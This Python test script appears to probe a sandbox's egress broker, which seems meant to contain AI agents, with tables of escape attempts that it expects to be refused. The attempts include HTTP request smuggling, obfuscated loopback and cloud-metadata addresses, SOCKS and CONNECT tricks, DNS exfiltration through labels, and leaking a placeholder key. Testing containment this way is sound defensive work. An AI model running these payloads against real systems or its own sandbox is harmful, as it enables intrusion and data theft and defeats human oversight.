#!/usr/bin/env python3
"""Attempts to get out through the network, from inside a box.

    attack.py TABLE...

Each attempt says what it saw and what the broker says of it (the last refusal,
http://agentbox.internal/why/last), one line each:

    NAME<TAB>ok|BAD<TAB>what it saw<TAB>reason<TAB>number of the record

BAD: not what the table expects. The caller compares the numbers with the log.
web.test is granted on 443 (GET /ok, /ok/*; TLS is intercepted), plain.test on 80
(GET and POST, /ok, /ok/*, /echo), raw.test on 7, pass.test on 443 with TLS passed
through. The head of a request may take two seconds.
"""
import json
import os
import re
import socket
import ssl
import struct
import sys
import time

PROXY = ("127.0.0.53", 3128)
TIMEOUT = 12


def ask_why(before):
    """What is told of a reset comes behind it: waits for something new."""
    for _ in range(40):
        why = ask_once()
        if why.get("decision", 0) > before:
            return why
        time.sleep(0.05)
    return why


def ask_once():
    s = socket.create_connection(("agentbox.internal", 80), timeout=TIMEOUT)
    s.sendall(b"GET /why/last HTTP/1.1\r\nHost: agentbox.internal\r\n"
              b"Connection: close\r\n\r\n")
    text = everything(s)
    return json.loads(text.partition(b"\r\n\r\n")[2] or b"{}")


def everything(s, limit=1 << 20):
    data = b""
    while len(data) < limit:
        try:
            more = s.recv(65536)
        except ConnectionResetError:
            return data + b"[reset]"
        except ssl.SSLError as why:
            return data + b"[tls %s]" % (why.reason or "").encode()
        except (socket.timeout, TimeoutError):
            return data + b"[timeout]"
        if not more:
            return data
        data += more
    return data


def seen(fn, *args):
    try:
        return fn(*args)
    except (socket.timeout, TimeoutError):
        return "timeout"
    except socket.gaierror as why:
        return "gaierror %d" % why.errno
    except ssl.SSLError as why:
        return "tls %s" % why.reason
    except OSError as why:
        return "errno %s" % os.strerror(why.errno) if why.errno else str(why)


def shown(data):
    text = data.decode("latin-1")
    first = text.split("\r\n")[0]
    if text.endswith("[reset]") or text.endswith("[timeout]") or "[tls" in text:
        first += " " + text[text.rindex("["):]
    return first or "closed"


def connect(host, port):
    return socket.create_connection((host, port), timeout=TIMEOUT)


def raw(data, host="plain.test", port=80):
    """Sends bytes, shows the first line of what comes back."""
    s = connect(host, port)
    try:
        s.sendall(data)
    except (BrokenPipeError, ConnectionResetError):
        pass
    return shown(everything(s))


def answers(data, host="plain.test", port=80):
    """How many answers came: more than one is smuggling."""
    s = connect(host, port)
    s.sendall(data)
    got = everything(s)
    return "%d: %s" % (got.count(b"HTTP/1.1 "), shown(got))


def tls(data, host="web.test", sni=None, alpn=None, port=443):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    s = connect(host, port)
    s = context.wrap_socket(s, server_hostname=host if sni is None else sni or None)
    s.sendall(data)
    return shown(everything(s))


def via_proxy(data):
    s = connect(*PROXY)
    s.sendall(data)
    return shown(everything(s))


def proxied(target, method="CONNECT"):
    if method == "CONNECT":
        return via_proxy(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n"
                         b"Connection: close\r\n\r\n" % (target, target))
    return via_proxy(b"GET http://%s/ok HTTP/1.1\r\nHost: %s\r\n"
                     b"Connection: close\r\n\r\n" % (target, target))


def socks(*messages):
    s = connect(*PROXY)
    got = []
    for m in messages:
        s.sendall(m)
        try:
            got.append(s.recv(512).hex() or "closed")
        except ConnectionResetError:
            got.append("reset")
        except (socket.timeout, TimeoutError):
            got.append("timeout")
    return " ".join(got)


def socks_to(kind, host, port, command=1):
    return socks(b"\5\1\0", b"\5" + bytes([command]) + b"\0" + kind + host +
                 struct.pack(">H", port))


def name(text):
    return b"\3" + bytes([len(text)]) + text


def question(text, kind=1, cls=1, flags=0x0100, count=1, extra=b""):
    q = b"".join(bytes([len(p)]) + p for p in text.split(b".") if p) + b"\0"
    return struct.pack(">HHHHHH", 7, flags, count, 0, 0, 0) + \
        (q + struct.pack(">HH", kind, cls)) * max(count, 1) + extra


def dns(packet, server="127.0.0.53"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    s.connect((server, 53))
    s.send(packet)
    try:
        got = s.recv(4096)
    except (socket.timeout, TimeoutError):
        return "nothing"
    rcode = got[3] & 15
    return "rcode %d answers %d" % (rcode, struct.unpack(">H", got[6:8])[0])


def dns_tcp(packet):
    s = connect("127.0.0.53", 53)
    s.sendall(struct.pack(">H", len(packet)) + packet)
    got = everything(s, 2)
    return "rcode %d" % (got[5] & 15) if len(got) > 5 else shown(got)


def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((host, port))
    s.send(b"\xc0\0\0\0\1" + b"x" * 1200)
    return "got %d" % len(s.recv(100))


def opens(family, kind, proto=0):
    socket.socket(family, kind, proto).close()
    return "open"


def slow(data, pause=0.4):
    s = connect("plain.test", 80)
    s.settimeout(pause)
    for i in range(60):
        try:
            s.sendall(data[i:i + 1])
            got = s.recv(4096)
            return shown(got)
        except (socket.timeout, TimeoutError):
            continue
        except (BrokenPipeError, ConnectionResetError):
            return "closed"
    return "still there"


HEAD = b"Host: plain.test\r\nConnection: close\r\n"


def get(path, more=b"", version=b"HTTP/1.1", method=b"GET"):
    return method + b" " + path + b" " + version + b"\r\n" + HEAD + more + b"\r\n"


def post(more, body=b""):
    return get(b"/echo", more, method=b"POST") + body


NO = r"40\d|421|431|50[0125]|closed|reset"
REFUSED = r"Connection refused|Network is unreachable|No route|Invalid argument"


def forms():
    """Addresses in every dress, dialled and through both proxies."""
    for a in ("127.0.0.2", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1",
              "169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192",
              "198.51.100.1", "192.88.99.1", "240.0.0.1", "8.8.8.8", "198.18.255.254"):
        # loopback is the box's own, and nobody is there
        yield "dial " + a, lambda a=a: raw(get(b"/ok"), a), \
            NO + ("|refused" if a.startswith("127") else ""), None
    for a in ("fd00::1", "fd00:ec2::254", "fe80::1%lo", "64:ff9b::7f00:1",
              "2002:7f00:1::1", "2001:db8::1", "2001::1", "::ffff:10.0.0.1",
              "::ffff:169.254.169.254", "2606:4700:4700::1111"):
        yield "dial " + a, lambda a=a: raw(get(b"/ok"), a), \
            NO + "|unreachable|Invalid", None
    for t in (b"127.0.0.1", b"2130706433", b"0x7f000001", b"017700000001", b"127.1",
              b"0177.0.0.1", b"0x7f.1", b"127.0.0.1.", b"127.000.000.001", b"[::1]",
              b"[::ffff:127.0.0.1]", b"[::ffff:7f00:1]", b"[::127.0.0.1]",
              b"[64:ff9b::169.254.169.254]", b"[fe80::1%25lo]", b"localhost",
              b"localhost.", b"LOCALHOST", b"169.254.169.254", b"metadata.google.internal",
              b"\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1", b"127\xe3\x80\x820.0.1",
              b"plain.test.evil.example", b"plain.test%2eevil.example",
              b"plain.test%00.evil.example", b"plain.test\\@evil.example",
              b"evil.example#plain.test", b"xn--plain-.test", b"plain..test", b".plain.test",
              b"plain.test..", b"-", b"a" * 64 + b".test", b"a." * 130 + b"test"):
        yield "connect " + t[:40].decode("latin-1"), \
            lambda t=t: proxied(t + b":80"), NO, "."
    for t in (b"127.1", b"[::1]", b"2130706433", b"evil.example", b"user@plain.test",
              b"plain.test:8080", b"plain.test:0", b"plain.test:65616", b"plain.test:+80"):
        yield "absolute " + t.decode(), lambda t=t: proxied(t, "GET"), NO, "."
    yield "upper case is the same name", \
        lambda: raw(get(b"/ok").replace(b"plain.test", b"PLAIN.Test")), "200", None
    yield "a dot at the end is the same name", \
        lambda: via_proxy(b"GET http://plain.test./ok HTTP/1.1\r\nHost: plain.test.\r\n"
                          b"Connection: close\r\n\r\n"), "200", None


def socks_cases():
    no = r" 05(0[1-8])|closed|reset"
    yield "socks to a name", lambda: socks_to(b"", name(b"plain.test"), 80), " 0500", None
    yield "socks to another name", lambda: socks_to(b"", name(b"evil.example"), 80), no, "."
    yield "socks to another port", lambda: socks_to(b"", name(b"plain.test"), 81), no, "."
    yield "socks NUL in the name", \
        lambda: socks_to(b"", name(b"evil.example\0.plain.test"), 80), no, "socks"
    yield "socks NUL after the name", \
        lambda: socks_to(b"", name(b"plain.test\0"), 80), no, "socks"
    yield "socks blank in the name", \
        lambda: socks_to(b"", name(b"plain.test x"), 80), no, "socks"
    yield "socks number as a name", lambda: socks_to(b"", name(b"2130706433"), 80), no, "socks"
    yield "socks empty name", lambda: socks_to(b"", name(b""), 80), no, "socks"
    yield "socks IPv4", lambda: socks_to(b"\1", b"\x7f\0\0\1", 80), no, "."
    yield "socks IPv6", lambda: socks_to(b"\4", b"\0" * 15 + b"\1", 80), no, "."
    yield "socks IPv4 as IPv6", \
        lambda: socks_to(b"\4", b"\0" * 10 + b"\xff\xff\xa9\xfe\xa9\xfe", 80), no, "."
    yield "socks port 0", lambda: socks_to(b"", name(b"plain.test"), 0), no, "."
    yield "socks BIND", lambda: socks_to(b"", name(b"plain.test"), 80, 2), no, "socks"
    yield "socks UDP ASSOCIATE", lambda: socks_to(b"\1", b"\0" * 4, 0, 3), no, "socks"
    yield "socks unknown kind of address", lambda: socks_to(b"\7", b"x" * 4, 80), no, "socks"
    yield "socks 4", lambda: socks(b"\4\1\0\x50\0\0\0\1x\0plain.test\0"), "^00|closed|reset", None
    yield "socks without a method we have", lambda: socks(b"\5\1\x80"), "05ff|closed", None


def dns_cases():
    yield "A of a granted name", lambda: dns(question(b"web.test")), "rcode 0 answers 1", None
    yield "AAAA of a granted name", lambda: dns(question(b"web.test", 28)), "rcode 0", None
    yield "a granted name in capitals", lambda: dns(question(b"WEB.tEST")), "answers 1", None
    yield "another name", lambda: dns(question(b"evil.example")), "rcode 3 answers 0", "."
    for t, k in (("TXT", 16), ("NULL", 10), ("MX", 15), ("SRV", 33), ("HTTPS", 65),
                 ("ANY", 255), ("CNAME", 5), ("NS", 2)):
        yield t + " of a granted name", lambda k=k: dns(question(b"web.test", k)), \
            "answers 0", None
        yield t + " of another name", lambda k=k: dns(question(b"evil.example", k)), \
            "rcode [35] answers 0", None
    yield "data in labels", lambda: dns(question(
        b"4d5a90000300000004000000ffff0000b8000000.exfil.example")), "rcode 3 answers 0", "."
    yield "data in long labels", lambda: dns(question(
        b".".join([b"a" * 60] * 3) + b".evil.example")), "rcode 3 answers 0", "."
    yield "data below a granted name", \
        lambda: dns(question(b"secret.web.test")), "rcode 3 answers 0", "."
    yield "another server", lambda: dns(question(b"elsewhere.example"), "8.8.8.8"), \
        "rcode 3 answers 0", "."
    yield "a name with a dot inside a label", \
        lambda: dns(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x08web.test\0" +
                    struct.pack(">HH", 1, 1)), r"rcode [1-5] answers 0|nothing", None
    yield "a name with NUL", lambda: dns(question(b"web\0.test")), \
        r"rcode [1-5] answers 0|nothing", None
    yield "class CH", lambda: dns(question(b"version.bind", 16, 3)), r"rcode [1-5]", None
    yield "two questions", lambda: dns(question(b"web.test", count=2)), \
        r"rcode [1-5] answers 0|nothing", None
    yield "no question", lambda: dns(struct.pack(">HHHHHH", 7, 256, 0, 0, 0, 0)), \
        r"rcode [1-5] answers 0|nothing", None
    yield "an answer as a question", lambda: dns(question(b"web.test", flags=0x8180)), \
        "nothing|rcode [1-5]", None
    yield "an update", lambda: dns(question(b"web.test", flags=0x2800)), \
        r"rcode [1-5] answers 0|nothing", None
    yield "a pointer to itself", \
        lambda: dns(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"), \
        r"rcode [1-5] answers 0|nothing", None
    yield "a name that ends nowhere", \
        lambda: dns(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x3fabc"), \
        r"rcode [1-5] answers 0|nothing", None
    yield "half a header", lambda: dns(b"\0\7\1"), "nothing", None
    yield "4 KiB of nothing", lambda: dns(b"\xff" * 4000), "nothing|rcode [1-5]", None
    yield "AXFR over TCP", lambda: dns_tcp(question(b"web.test", 252)), "rcode [0-5]|closed", None
    yield "a denied name over TCP", lambda: dns_tcp(question(b"evil.example")), "rcode 3", "."


def http_cases():
    two = r"^(1|0): .*(40\d|421|431|501|closed)"
    smuggled = b"GET /evil HTTP/1.1\r\nHost: plain.test\r\n\r\n"
    n = b"Content-Length: %d\r\n" % len(smuggled)
    yield "content-length and chunked", lambda: answers(post(
        n + b"Transfer-Encoding: chunked\r\n", b"0\r\n\r\n" + smuggled)), two, "length-and-coding"
    yield "chunked and content-length", lambda: answers(post(
        b"Transfer-Encoding: chunked\r\n" + n, b"0\r\n\r\n" + smuggled)), two, "length-and-coding"
    yield "two lengths", lambda: answers(post(
        b"Content-Length: 0\r\n" + n, smuggled)), two, "two-lengths|header-twice"
    yield "two equal lengths", lambda: answers(post(n + n, smuggled)), two, "two-lengths|header-twice"
    yield "a list of lengths", lambda: answers(post(
        b"Content-Length: 5, 5\r\n", b"xxxxx")), two, "length"
    for v in (b"-1", b"+5", b"0x5", b"5 5", b"5;", b"", b"99999999999999999999", b"1e3", b"\xb25"):
        yield "length %r" % v, lambda v=v: answers(post(
            b"Content-Length: " + v + b"\r\n", b"xxxxx")), two, "length|control|header"
    for v in (b"xchunked", b"chunked, identity", b"gzip, chunked", b"identity", b"chunked\x0b",
              b"\"chunked\"", b"chunked, chunked", b"Chunked;q=1"):
        yield "coding %r" % v, lambda v=v: answers(post(
            b"Transfer-Encoding: " + v + b"\r\n", b"0\r\n\r\n")), two, "coding|control"
    yield "chunked twice", lambda: answers(post(
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n")), two, \
        "coding|twice"
    yield "chunked in HTTP/1.0", lambda: answers(
        get(b"/echo", b"Transfer-Encoding: chunked\r\n", b"HTTP/1.0", b"POST") +
        b"0\r\n\r\n"), two, "coding"
    yield "blank before the colon", lambda: answers(post(
        b"Content-Length : 5\r\n", b"xxxxx")), two, "colon|header"
    yield "folded header", lambda: answers(get(b"/ok", b"X: a\r\n b\r\n")), two, "folded"
    yield "folded coding", lambda: answers(post(
        b"Transfer-Encoding:\r\n chunked\r\n", b"0\r\n\r\n")), two, "folded|coding"
    yield "bare LF", lambda: raw(b"GET /ok HTTP/1.1\nHost: plain.test\n\n"), NO, "bare-lf"
    yield "bare LF in a header", lambda: raw(get(b"/ok", b"X: a\nY: b\r\n")), NO, "bare-lf"
    yield "bare CR in a header", lambda: raw(get(b"/ok", b"X: a\rY: b\r\n")), NO, "bare-cr"
    yield "NUL in a header", lambda: raw(get(b"/ok", b"X: a\0b\r\n")), NO, "nul"
    yield "NUL in the path", lambda: raw(get(b"/ok\0")), NO, "."
    yield "control byte in a name", lambda: raw(get(b"/ok", b"X\x01: b\r\n")), NO, "."
    yield "a header that looks like another", lambda: answers(post(
        b"Content_Length: 5\r\n", b"")), two + "|200", None
    yield "no host", lambda: raw(b"GET /ok HTTP/1.1\r\nConnection: close\r\n\r\n"), NO, "host"
    yield "two hosts", lambda: raw(
        b"GET /ok HTTP/1.1\r\nHost: plain.test\r\nHost: evil.example\r\n\r\n"), NO, "host|twice"
    yield "another host", lambda: raw(
        b"GET /ok HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"), NO, "host"
    yield "host with another port", lambda: raw(
        b"GET /ok HTTP/1.1\r\nHost: plain.test:8080\r\nConnection: close\r\n\r\n"), NO, "host"
    yield "host with userinfo", lambda: raw(
        b"GET /ok HTTP/1.1\r\nHost: a@plain.test\r\nConnection: close\r\n\r\n"), NO, "host|user"
    yield "absolute form to another host", lambda: raw(
        b"GET http://evil.example/ok HTTP/1.1\r\nHost: plain.test\r\n\r\n"), NO, "."
    yield "absolute form against Host", lambda: via_proxy(
        b"GET http://plain.test/ok HTTP/1.1\r\nHost: evil.example\r\n\r\n"), NO, "host"
    for p in (b"/ok/../evil", b"/ok/%2e%2e/evil", b"/ok/.%2e/evil", b"/ok/%2E%2E%2Fevil",
              b"/ok%2f..%2fevil", b"/ok/%5c..%5cevil", b"/ok\\..\\evil", b"/ok/./x", b"/ok//x",
              b"/ok/%252e%252e/evil", b"/ok/%00", b"/ok/%0d%0aX:%20y", b"/ok/%", b"/ok/%zz",
              b"/ok/%c0%ae%c0%ae/evil", b"/ok/%ff", b"ok", b"*", b"", b"/ok#/evil"):
        yield "path %s" % p.decode("latin-1"), lambda p=p: raw(get(p)), NO, "."
    yield "a path that is not granted", lambda: raw(get(b"/evil")), "403", "."
    yield "path parameters do not hide it", lambda: raw(get(b"/evil;/ok")), NO, "."
    yield "a method that is not granted", lambda: raw(get(b"/ok", method=b"DELETE")), "403", "."
    yield "method in small letters", lambda: raw(get(b"/ok", method=b"delete")), NO, "."
    yield "TRACE", lambda: raw(get(b"/ok", method=b"TRACE")), NO, "."
    yield "an override of the method is seen by no rule, and reaches nothing new", \
        lambda: raw(get(b"/evil", b"X-HTTP-Method-Override: DELETE\r\n")), "403", "."
    yield "HTTP/0.9", lambda: raw(b"GET /ok\r\n"), NO, "."
    yield "HTTP/1.2", lambda: raw(get(b"/ok", version=b"HTTP/1.2")), NO + "|505", "version"
    yield "HTTP/2 without asking", lambda: raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), \
        NO + "|505", "http2|version"
    yield "h2c upgrade", lambda: raw(get(
        b"/ok", b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n").replace(
            b"Connection: close", b"Connection: Upgrade, HTTP2-Settings")), NO + "|200", None
    yield "upgrade to something else", lambda: raw(get(b"/ok", b"Upgrade: foo\r\n").replace(
        b"Connection: close", b"Connection: upgrade")), NO + "|200", None
    yield "a header taken away by Connection", lambda: raw(get(b"/ok").replace(
        b"Connection: close", b"Connection: close, Host")), NO + "|200", None
    for v in (b"0x5", b"5 ", b"-1", b"g", b"ffffffffffffffffff", b"", b"+5"):
        yield "chunk size %r" % v, lambda v=v: answers(post(
            b"Transfer-Encoding: chunked\r\n", v + b"\r\nxxxxx\r\n0\r\n\r\n")), two, "chunk"
    yield "chunk without its end", lambda: answers(post(
        b"Transfer-Encoding: chunked\r\n", b"5\r\nxxxxxZZ0\r\n\r\n")), two, "chunk|bare"
    yield "chunk ended by LF", lambda: answers(post(
        b"Transfer-Encoding: chunked\r\n", b"5\nxxxxx\n0\n\n")), two, "chunk|bare"
    yield "chunk extension of 64 KiB", lambda: answers(post(
        b"Transfer-Encoding: chunked\r\n", b"5;" + b"x" * 65536 + b"\r\nxxxxx\r\n0\r\n\r\n")), \
        two + "|reset", "chunk"
    yield "a URL of 9000 bytes", lambda: raw(get(b"/ok/" + b"x" * 9000)), NO + "|414", "url|large"
    yield "a head of 128 KiB", lambda: raw(get(b"/ok", b"X: " + b"y" * 131072 + b"\r\n")), \
        NO + "|431", "large"
    yield "500 headers", lambda: raw(get(b"/ok", b"X: y\r\n" * 500)), NO + "|431", "large|many|twice"
    yield "2000 parameters", lambda: raw(get(b"/ok?" + b"a=b&" * 2000)), NO + "|414|431", "many|url"
    yield "a body without a length is none", lambda: answers(
        get(b"/ok") + smuggled), r"^1: HTTP/1.1 200", None
    yield "injection through a decoded line feed", lambda: raw(
        get(b"/ok?x=%0d%0aHost:%20evil.example")), "200|" + NO, None
    yield "a slow head", lambda: slow(b"GET /ok HTTP/1.1\r\n" + b"X: y\r\n" * 40), \
        "408|closed", "slow"
    yield "a head that does not end", lambda: slow(b"GET"), "408|closed", "slow"


def connect_cases():
    inside = b"GET /ok HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
    to = b"CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test:80\r\n\r\n"
    yield "HTTP inside CONNECT is HTTP", lambda: via_proxy(to + inside % b"plain.test"), "200", None
    yield "another host inside CONNECT", lambda: answers(
        to + inside % b"evil.example", *PROXY), r"^2: |40\d|reset", "host"
    yield "another path inside CONNECT", lambda: answers(
        to + (inside % b"plain.test").replace(b"/ok", b"/evil"), *PROXY), "^2: ", "."
    yield "CONNECT inside CONNECT", lambda: answers(
        to + b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", *PROXY), \
        r"^2: |reset", "."
    yield "CONNECT on a captured connection", lambda: raw(
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"), NO, "."
    yield "CONNECT with a body", lambda: via_proxy(to.replace(
        b"\r\n\r\n", b"\r\nContent-Length: 5\r\n\r\nhello")), NO, "connect|body|length"
    yield "CONNECT without a port", lambda: proxied(b"plain.test"), NO, "."
    yield "CONNECT to port 25", lambda: proxied(b"plain.test:25"), NO, "."
    yield "CONNECT to port 0", lambda: proxied(b"plain.test:0"), NO, "."
    yield "CONNECT to port 65616", lambda: proxied(b"plain.test:65616"), NO, "."
    yield "CONNECT to a URL", lambda: proxied(b"http://plain.test:80/"), NO, "."
    yield "CONNECT with userinfo", lambda: proxied(b"user:pass@plain.test:80"), NO, "."
    yield "origin form to the proxy", lambda: via_proxy(
        b"GET /ok HTTP/1.1\r\nHost: plain.test\r\n\r\n"), NO, "."
    yield "https in absolute form", lambda: via_proxy(
        b"GET https://web.test/ok HTTP/1.1\r\nHost: web.test\r\n\r\n"), NO, "."
    yield "ftp in absolute form", lambda: via_proxy(
        b"GET ftp://plain.test/ok HTTP/1.1\r\nHost: plain.test\r\n\r\n"), NO, "."
    yield "garbage to the proxy", lambda: via_proxy(b"\x80\x01\x02garbage\r\n\r\n"), NO, "."


def tls_cases():
    ok = b"GET /ok HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
    yield "intercepted, as granted", lambda: tls(ok % b"web.test"), "200", None
    yield "passed through, as granted", lambda: tls(ok % b"pass.test", "pass.test"), "200", None
    yield "another server name, intercepted", \
        lambda: tls(ok % b"web.test", "web.test", "evil.example"), "40|tls|reset|closed", "sni"
    yield "another server name, passed through", \
        lambda: tls(ok % b"evil.example", "pass.test", "evil.example"), "tls|reset|closed", "sni"
    yield "no server name, passed through", \
        lambda: tls(ok % b"pass.test", "pass.test", ""), "200|tls|reset|closed", None
    yield "another host inside TLS", lambda: tls(ok % b"evil.example"), "421", "host"
    yield "another path inside TLS", \
        lambda: tls((ok % b"web.test").replace(b"/ok", b"/evil")), "403", "."
    yield "another method inside TLS", \
        lambda: tls((ok % b"web.test").replace(b"GET", b"PUT")), "403", "."
    yield "HTTP/2 only", lambda: tls(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "web.test", None, ["h2"]), \
        "tls|40|reset|closed|505", None
    yield "plain HTTP where TLS is granted", lambda: raw(
        (ok % b"web.test"), "web.test", 443), "502|40|reset|closed", None
    yield "no hello after all", lambda: raw(b"\x16\x03\x01\x00\x05hello" + b"x" * 100, "web.test", 443), \
        NO, "hello|tls|no-rule"
    yield "a hello of 64 KiB", lambda: raw(
        b"\x16\x03\x01\xff\xff\x01\x00\xff\xfb" + b"x" * 65535, "web.test", 443), NO, "hello|tls|no-rule"
    yield "SSL 2", lambda: raw(b"\x80\x2e\x01\x00\x02" + b"x" * 60, "web.test", 443), NO, None
    yield "TLS on a stream for HTTP", lambda: tls(ok % b"plain.test", "plain.test", None, None, 80), \
        "502|40|tls|reset|closed", None
    yield "another port of a host", lambda: tls(ok % b"web.test", "web.test", None, None, 8443), \
        "40|tls|reset|closed", "."


def datagrams():
    yield "UDP", lambda: udp("8.8.8.8", 9), REFUSED, None
    yield "QUIC", lambda: udp("1.1.1.1", 443), REFUSED, None
    yield "QUIC to a granted name", lambda: udp("web.test", 443), REFUSED, None
    yield "UDP over IPv6", lambda: udp("2606:4700:4700::1111", 443, socket.AF_INET6), REFUSED, None
    yield "NTP", lambda: udp("162.159.200.1", 123), REFUSED, None
    yield "multicast", lambda: udp("224.0.0.251", 5353), REFUSED + "|timed out|timeout", None
    yield "broadcast", lambda: udp("255.255.255.255", 67), REFUSED + "|denied", None
    for n, f, k, p in (("raw IPv4", socket.AF_INET, socket.SOCK_RAW, 255),
                       ("raw ICMP", socket.AF_INET, socket.SOCK_RAW, 1),
                       ("raw IPv6", socket.AF_INET6, socket.SOCK_RAW, 58),
                       ("ping", socket.AF_INET, socket.SOCK_DGRAM, 1),
                       ("packet", socket.AF_PACKET, socket.SOCK_RAW, 768),
                       ("packet datagram", socket.AF_PACKET, socket.SOCK_DGRAM, 768),
                       ("SCTP", socket.AF_INET, socket.SOCK_STREAM, 132),
                       ("vsock", 40, socket.SOCK_STREAM, 0),
                       ("netfilter", socket.AF_NETLINK, socket.SOCK_RAW, 12),
                       ("bluetooth", 31, socket.SOCK_RAW, 1),
                       ("XDP", 44, socket.SOCK_RAW, 0),
                       ("ALG", 38, socket.SOCK_SEQPACKET, 0)):
        yield "socket: " + n, lambda f=f, k=k, p=p: opens(f, k, p), "errno", None


def thefts():
    key = os.environ.get("TEST_KEY", "")
    k = key.encode()
    yield "it is a placeholder", lambda: key[:8], "^ph-", None
    yield "placeholder in a path", lambda: raw(get(b"/ok/" + k)), NO, "placeholder"
    yield "placeholder in a body", lambda: raw(post(
        b"Content-Length: %d\r\n" % len(k), k)), NO, "placeholder"
    yield "placeholder in a header, to a host that may not have it", \
        lambda: raw(get(b"/ok", b"Authorization: Bearer " + k + b"\r\n")), NO, "."
    yield "placeholder in a query, to a host that may not have it", \
        lambda: raw(get(b"/ok?key=" + k)), NO, "."
    yield "placeholder where it belongs", lambda: tls(
        b"GET /ok/key HTTP/1.1\r\nHost: web.test\r\nAuthorization: Bearer " + k +
        b"\r\nConnection: close\r\n\r\n"), "200", None
    yield "placeholder in another header of the right request", lambda: tls(
        b"GET /ok/key HTTP/1.1\r\nHost: web.test\r\nX-Other: " + k +
        b"\r\nConnection: close\r\n\r\n"), "40", "."
    yield "placeholder to another path of the right host", lambda: tls(
        b"GET /ok/other HTTP/1.1\r\nHost: web.test\r\nAuthorization: Bearer " + k +
        b"\r\nConnection: close\r\n\r\n"), "40", "."


TABLES = {"forms": forms, "socks": socks_cases, "dns": dns_cases, "http": http_cases,
          "connect": connect_cases, "tls": tls_cases, "datagrams": datagrams,
          "thefts": thefts}


def main():
    before = 0
    for table in sys.argv[1:] or TABLES:
        for title, fn, expected, reason in TABLES[table]():
            got = str(seen(fn))
            why = ask_why(before) if reason else {}
            number = why.get("decision", 0)
            fine = re.search(expected, got) is not None
            if reason:
                fine = fine and number > before and \
                    re.search(reason, str(why.get("reason", ""))) is not None
                before = max(before, number)
            print("%s: %s\t%s\t%s\t%s\t%d" % (
                table, title.encode("unicode_escape").decode(), "ok" if fine else "BAD",
                got.encode("unicode_escape").decode(), why.get("reason", "-"), number), flush=True)


main()
